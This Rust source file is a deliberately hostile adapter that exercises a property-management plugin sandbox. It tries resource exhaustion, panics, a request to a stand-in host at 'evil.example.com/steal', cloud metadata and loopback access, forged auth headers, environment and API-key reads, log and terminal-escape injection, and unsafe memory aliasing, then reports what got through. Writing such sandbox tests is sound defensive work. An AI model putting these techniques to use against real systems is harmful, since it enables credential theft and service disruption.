//! A hostile adapter for the sandbox tests. `get-reservation(<attack>)` runs the named attack;
//! the result (or the host's refusal) comes back as the error message or in the reservation's
//! notes, so the tests can see exactly what crossed into the guest. `add-reservation-note`
//! posts to the path the note names, for the write path's containment tests.

use jack_pms_sdk::prelude::*;
use std::hint::black_box;

struct Hostile;

fn base() -> Result<String, PmsError> {
    config::require("baseUrl")
}

/// A reservation whose notes carry what the guest observed.
fn observed(notes: Vec<String>) -> Option<Reservation> {
    Some(Reservation {
        id: "observed".into(),
        confirmation_number: "OBSERVED".into(),
        guest_pms_id: "nobody".into(),
        guest_name: "Observer".into(),
        status: ReservationStatus::Reserved,
        arrival_date: "2024-01-01".into(),
        departure_date: "2024-01-02".into(),
        checkout_time: None,
        room_number: None,
        room_type: None,
        adults: 1,
        children: 0,
        notes,
    })
}

fn recurse(depth: u64, pad: [u64; 16]) -> u64 {
    if depth == u64::MAX {
        return pad[0];
    }
    black_box(recurse(depth + 1, black_box(pad))) + pad[(depth % 16) as usize]
}

fn send(request: Request) -> Result<Option<Reservation>, PmsError> {
    let response = request.send()?;
    Ok(observed(vec![
        response.status().to_string(),
        response.text(),
    ]))
}

impl Adapter for Hostile {
    const VENDOR: &'static str = "hostile";
    const VERSION: &'static str = env!("CARGO_PKG_VERSION");
    const OPERATIONS: &'static [Operation] = &[
        Operation::HealthCheck,
        Operation::GetReservation,
        Operation::AddReservationNote,
        Operation::FindWrite,
    ];

    /// Posts to `{baseUrl}<note>` with the API key; the vendor's answer decides the outcome.
    fn add_reservation_note(
        _operation_id: String,
        _confirmation_number: String,
        note: String,
    ) -> Result<WriteReceipt, PmsError> {
        Request::post(format!("{}{note}", base()?))
            .credentials(CredentialScheme::ApiKeyHeader)
            .body(b"{}".to_vec())
            .send()?
            .error_for_status()?;
        Ok(WriteReceipt {
            pms_reference: None,
        })
    }

    fn find_write(_operation_id: String, _target: WriteTarget) -> Result<WritePresence, PmsError> {
        Ok(WritePresence::Absent)
    }

    fn health_check() -> Result<HealthStatus, PmsError> {
        Ok(HealthStatus {
            healthy: true,
            detail: Some("hostile adapter, behaving for now".into()),
        })
    }

    fn get_reservation(attack: String) -> Result<Option<Reservation>, PmsError> {
        match attack.as_str() {
            "loop" => {
                let mut n: u64 = 0;
                loop {
                    n = black_box(n.wrapping_add(1));
                }
            }
            "memory" => {
                let mut hoard: Vec<Vec<u8>> = Vec::new();
                loop {
                    hoard.push(black_box(vec![1u8; 1 << 20]));
                }
            }
            "recursion" => Ok(observed(vec![recurse(0, [7; 16]).to_string()])),
            "trap" => panic!("the hostile adapter panics on purpose"),
            "forbidden-host" => send(Request::get("https://evil.example.com/steal")),
            "loopback" => send(Request::get("http://127.0.0.1:1/admin")),
            "metadata" => send(Request::get("http://169.254.169.254/latest/meta-data/iam")),
            "plain-http" => send(Request::get(
                format!("{}/api/v1/echo", base()?).replace("127.0.0.1", "localhost"),
            )),
            "auth-header" => send(
                Request::get(format!("{}/api/v1/echo", base()?))
                    .header("Authorization", "Bearer stolen"),
            ),
            "api-key-header" => send(
                Request::get(format!("{}/api/v1/echo", base()?)).header("X-Api-Key", "guessed"),
            ),
            "huge" => {
                // Bigger than the 1 MiB cap the tests set, smaller than the mock PMS's body limit.
                let body = vec![b'x'; 1536 << 10];
                send(
                    Request::post(format!("{}/api/v1/echo", base()?))
                        .credentials(CredentialScheme::ApiKeyHeader)
                        .body(body),
                )
            }
            "many-requests" => {
                let url = format!("{}/api/v1/echo", base()?);
                for i in 0.. {
                    Request::get(&url)
                        .credentials(CredentialScheme::ApiKeyHeader)
                        .send()
                        .map_err(|e| internal(format!("request {} failed: {e}", i + 1)))?;
                }
                unreachable!()
            }
            "wrong-scheme" => send(
                Request::post(format!("{}/api/v1/echo", base()?))
                    .credentials(CredentialScheme::JsonBodyCredentials)
                    .body(b"{}".to_vec()),
            ),
            "echo" => {
                let response = Request::post(format!("{}/api/v1/echo", base()?))
                    .credentials(CredentialScheme::ApiKeyHeader)
                    .body(b"hello".to_vec())
                    .send()?;
                let headers: Vec<String> = ["x-api-key"]
                    .iter()
                    .filter_map(|h| response.header(h).map(|v| format!("{h}: {v}")))
                    .collect();
                let mut notes = vec![response.status().to_string(), response.text()];
                notes.extend(headers);
                Ok(observed(notes))
            }
            "environment" => {
                let vars: Vec<String> = std::env::vars().map(|(k, v)| format!("{k}={v}")).collect();
                let args: Vec<String> = std::env::args().collect();
                let mut stdin = String::new();
                let stdin_result = std::io::Read::read_to_string(&mut std::io::stdin(), &mut stdin);
                Ok(observed(vec![
                    format!("vars={}", vars.len()),
                    format!("args={}", args.len()),
                    format!("home={:?}", std::env::var("HOME").ok()),
                    format!("key={:?}", std::env::var("JACK_MOCK_PMS_KEY").ok()),
                    format!("stdin={:?}/{}", stdin_result.is_ok(), stdin.len()),
                ]))
            }
            "stdout" => {
                println!("hostile stdout line");
                eprintln!("hostile stderr line");
                jack_pms_sdk::warn!("hostile log line");
                Ok(observed(vec!["printed".into()]))
            }
            "bad-date" => {
                let mut r = observed(vec![]);
                if let Some(r) = r.as_mut() {
                    r.arrival_date = "yesterday".into();
                }
                Ok(r)
            }
            "oauth-echo" => send(
                Request::post(format!("{}/api/v1/echo", base()?))
                    .credentials(CredentialScheme::Oauth2ClientCredentials)
                    .body(b"hello".to_vec()),
            ),
            "flood-log" => {
                for i in 0..100_000 {
                    jack_pms_sdk::info!("flood line {i}");
                }
                Ok(observed(vec!["flooded".into()]))
            }
            "flood-stdout" => {
                // Six times the per-call line budget and seven times its byte budget, then
                // 1 MiB on stderr without a newline: well over both, quick to write even on a
                // loaded machine (the deadline here is 2 s).
                let line = "y".repeat(300);
                for i in 0..6_000 {
                    println!("{i} {line}");
                }
                eprint!("{}", "z".repeat(1 << 20));
                Ok(observed(vec!["flooded".into()]))
            }
            "log-injection" => {
                jack_pms_sdk::warn!(
                    "innocent\n2026-12-02T00:00:00.000000Z ERROR jack_pms: forged line\r\x1b[2J\x1b[31mred"
                );
                println!("stdout\r2026-12-02T00:00:00Z ERROR forged by stdout\x1b]0;title\x07");
                Ok(observed(vec!["injected".into()]))
            }
            "huge-error" => Err(internal("e".repeat(8 << 20))),
            "ansi-error" => Err(PmsError::Unavailable(
                "down\n2026-12-02T00:00:00.000000Z ERROR jack_pms: forged\x1b[31m red \u{202e}"
                    .into(),
            )),
            "absurd-retry" => Err(PmsError::RateLimited(Some(u64::MAX))),
            a if a.starts_with("amplify") => {
                // One 1 MiB buffer that 400 strings point into: 400 MiB if the host copied each.
                let buffer = std::mem::ManuallyDrop::new("a".repeat(1 << 20));
                let mut notes = Vec::with_capacity(400);
                for _ in 0..400 {
                    // SAFETY (of the guest, which is hostile on purpose): every alias is leaked
                    // before anything could free it twice; the host discards the instance.
                    let alias = unsafe {
                        String::from_raw_parts(
                            buffer.as_ptr().cast_mut(),
                            buffer.len(),
                            buffer.len(),
                        )
                    };
                    notes.push(alias);
                }
                let r = observed(notes);
                Ok(r)
            }
            other => {
                if let Some(path) = other.strip_prefix("keyed:") {
                    // `keyed:<path>`: a read with the API key; everything the guest got back.
                    let response = Request::get(format!("{}{path}", base()?))
                        .credentials(CredentialScheme::ApiKeyHeader)
                        .send()?;
                    let mut notes = vec![response.status().to_string(), response.text()];
                    notes.extend(
                        ["content-encoding", "content-range", "x-echo", "set-cookie"]
                            .iter()
                            .filter_map(|h| response.header(h).map(|v| format!("{h}: {v}"))),
                    );
                    Ok(observed(notes))
                } else if let Some(rest) = other.strip_prefix("with-header:") {
                    // `with-header:<name>:<path>`: the guest tries to set a header itself.
                    let (name, path) = rest.split_once(':').unwrap_or((rest, "/"));
                    send(
                        Request::get(format!("{}{path}", base()?))
                            .credentials(CredentialScheme::ApiKeyHeader)
                            .header(name, "gzip, br, identity"),
                    )
                } else if let Some(url) = other.strip_prefix("get:") {
                    send(Request::get(url))
                } else if let Some(path) = other.strip_prefix("oauth:") {
                    // `oauth:<path>`: a read with host-owned OAuth credentials.
                    send(
                        Request::get(format!("{}{path}", base()?))
                            .credentials(CredentialScheme::Oauth2ClientCredentials),
                    )
                } else {
                    Ok(None)
                }
            }
        }
    }
}

export_adapter!(Hostile);
